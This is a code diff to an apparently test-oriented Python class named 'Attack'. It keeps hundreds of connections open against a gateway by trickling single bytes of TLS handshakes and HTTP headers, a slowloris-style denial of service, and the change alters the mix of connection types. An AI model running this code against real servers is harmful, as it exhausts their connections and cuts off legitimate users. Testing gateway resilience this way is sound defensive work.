@@ -1,4 +1,4 @@
-"""Callers without a key who fill a gateway: silent, slow in TLS, slow in a request's header."""
+"""Callers without a key who fill a gateway: slow in TLS, slow in a request's header."""
 
 import socket
 import ssl
@@ -15,8 +15,8 @@ PAUSE_S = 0.5
 class Attack:
     """Holds as many connections as it can, up to `count`, from one address; opens lost ones anew.
 
-    Of ten, one is silent, seven send a byte of a handshake now and then, two a byte of a header.
-    (nginx hangs up on silent ones when it is full, and on no others.)
+    Of ten, nine send a byte of a TLS handshake now and then, one a byte of a request's header. (On
+    those that are silent nginx hangs up by itself when it is full.)
     """
 
     def __init__(self, port, source, count=600):
@@ -44,7 +44,7 @@ class Attack:
                     if self._open[place] is None:
                         self._open[place] = self._connect(place)
                         self.opened += 1
-                    elif place % 10:
+                    else:
                         self._open[place].send(b"x")
                     self._look(self._open[place])
                 except OSError:
@@ -55,12 +55,12 @@ class Attack:
 
     def _connect(self, place):
         made = socket.create_connection(self._to, 5, (self._source, 0))
-        if place % 10 >= 8:
+        if place % 10 == 9:
             context = ssl.create_default_context()
             context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
             made = context.wrap_socket(made)
             made.send(HEADER)
-        elif place % 10:
+        else:
             made.send(HELLO)
         return made
 
